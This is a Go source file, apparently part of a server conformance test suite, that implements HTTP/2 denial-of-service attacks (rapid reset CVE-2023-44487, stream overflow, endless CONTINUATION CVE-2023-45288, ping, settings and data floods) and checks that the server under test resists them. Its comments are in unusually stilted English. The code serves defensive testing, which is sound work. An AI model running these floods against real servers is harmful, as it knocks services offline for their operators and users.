package abuse

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/tornadogen/tornadogen/conformance/internal/target"
)

// http2Attacks are against net/http's server. It tells the runtime what is no HTTP/2, as a head without end is not, and nobody that its queue
// of answers was full: that is http2_flood, which the runtime counts where a client goes on sending to who has given it up.
func http2Attacks() []Attack {
	return []Attack{
		{
			Name: "HTTP/2: rapid reset", Does: "read slowly above 100 that were not answered, ended at 200", Bound: "http2_resets", secure: true,
			clients: 4, once: rapidReset,
		},
		{
			Name: "HTTP/2: more streams than may be open", Does: "those over 100 are reset", Bound: "http2_streams", secure: true, clients: 4,
			once: manyStreams,
		},
		{Name: "HTTP/2: CONTINUATION without end", Does: "ended over the limit of a head", Bound: "http2_protocol", secure: true, clients: 4, once: continuations},
		{
			Name: "HTTP/2: pings without end, no answer read", Does: "ended once its queue is full", Bound: "http2_flood", secure: true, clients: 4,
			once: flood(func(f *http2.Framer) error { return f.WritePing(false, [8]byte{}) }),
		},
		{
			Name: "HTTP/2: settings without end, no answer read", Does: "served: one acknowledgement is owed at a time", Meter: target.Accepted, like: manySettings / 50, secure: true,
			clients: 4, once: settings,
		},
		{
			Name: "HTTP/2: empty data without end", Does: "ended, or the stream answered", Bound: "http2_flood", secure: true, clients: 4,
			once: flood(func(f *http2.Framer) error { return f.WriteData(1, false, nil) }),
		},
	}
}

// speak opens a connection that speaks HTTP/2 over TLS.
func (a *attacker) speak() (net.Conn, *http2.Framer, error) {
	plain, err := a.dial(a.at.TLS)
	if err != nil {
		return nil, nil, err
	}
	conn := tls.Client(plain, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // the certificate is made up
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, nil, errors.Join(err, plain.Close())
	}
	f := http2.NewFramer(conn, conn)
	return conn, f, f.WriteSettings()
}

// pack is a framer for conn that sends as many frames at once as a record of TLS holds: a client that sends each for itself is kept busy as
// much as the server.
func pack(conn net.Conn) *http2.Framer {
	const record = 16 << 10
	return http2.NewFramer(bufio.NewWriterSize(conn, record), nil)
}

// headers is a block of fields for a path.
func headers(path string, more ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "a"}, {Name: ":path", Value: path},
	}, more...) {
		_ = e.WriteField(f) // a buffer gives no error
	}
	return b.Bytes()
}

// rapidReset opens streams and resets them at once (CVE-2023-44487). Their handlers go on. Half of the clients wait until they are given up; the others
// leave as soon as they are read slowly: on a new connection the server has more patience.
func rapidReset(a *attacker) error {
	conn, f, err := a.speak()
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	go func() {
		block := headers("/block?nonce=a&ms=500")
		for id := uint32(1); id < 20_000; id += 2 {
			err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
			if err == nil {
				err = f.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if err != nil {
				return // given up
			}
		}
		_ = f.WritePing(false, [8]byte{}) // if it fails, so does reading
	}()
	leaves := a.id%2 == 0
	if leaves {
		if err := conn.SetReadDeadline(time.Now().Add(tooSlow)); err != nil {
			return err
		}
	}
	for {
		frame, err := f.ReadFrame()
		switch frame := frame.(type) {
		case *http2.PingFrame:
			return errors.New("10,000 resets were taken")
		case *http2.GoAwayFrame:
			if frame.ErrCode != http2.ErrCodeEnhanceYourCalm {
				return fmt.Errorf("given up with %s", frame.ErrCode)
			}
			return nil
		}
		if errors.Is(err, os.ErrDeadlineExceeded) && !leaves {
			return errors.New("neither read nor given up")
		}
		if err != nil {
			return nil // read slowly, or given up, and closed before that was read
		}
	}
}

// tooSlow is how long it takes a server at least that does not want 10,000 resets.
const tooSlow = 100 * time.Millisecond

// manyStreams opens more streams than may be open, and wants one of them reset.
func manyStreams(a *attacker) error {
	conn, f, err := a.speak()
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	go func() {
		block := headers("/later?nonce=a&ms=2000")
		for i := range uint32(150) {
			if f.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: block, EndStream: true, EndHeaders: true}) != nil {
				return // the other side of f says why
			}
		}
	}()
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return err
		}
		switch frame := frame.(type) {
		case *http2.RSTStreamFrame:
			return nil
		case *http2.HeadersFrame:
			return fmt.Errorf("stream %d was answered, and none was reset", frame.StreamID)
		}
	}
}

// continuations begins a head that does not end (CVE-2023-45288).
func continuations(a *attacker) error {
	conn, f, err := a.speak()
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	go func() { _, _ = io.Copy(io.Discard, conn) }()
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers("/ping?nonce=a"), EndStream: true}); err != nil {
		return err
	}
	more := headers("", hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte("a"), 10_000))})[4:]
	for sent := 0; a.ctx.Err() == nil; sent += len(more) {
		if sent > 256<<20 {
			return errors.New("256 MiB of a head were taken")
		}
		if err := f.WriteContinuation(1, false, more); err != nil {
			return nil // given up
		}
	}
	return nil
}

// manySettings is how many frames a round of settings has.
const manySettings = 200_000

// settings writes frames of settings and reads nothing. net/http owes one acknowledgement for all that came since the last one, so that no
// queue gets full: each frame costs what it sends, which is less than a twentieth of a request.
func settings(a *attacker) error {
	conn, _, err := a.speak()
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	f := pack(conn)
	for n := 0; n < manySettings && a.ctx.Err() == nil; n++ {
		if err := f.WriteSettings(); err != nil {
			return nil // given up, as it may be
		}
	}
	return nil
}

// flood writes frames that are answered, and reads nothing.
func flood(write func(f *http2.Framer) error) func(a *attacker) error {
	return func(a *attacker) error {
		conn, f, err := a.speak()
		if err != nil {
			return err
		}
		defer func() { _ = conn.Close() }()
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: headers("/ping?nonce=a"), EndHeaders: true}); err != nil {
			return err
		}
		f = pack(conn)
		for n := 0; a.ctx.Err() == nil; n++ {
			if n > 20_000_000 {
				return errors.New("20 million frames were taken")
			}
			if err := write(f); err != nil {
				return nil // given up
			}
		}
		return nil
	}
}
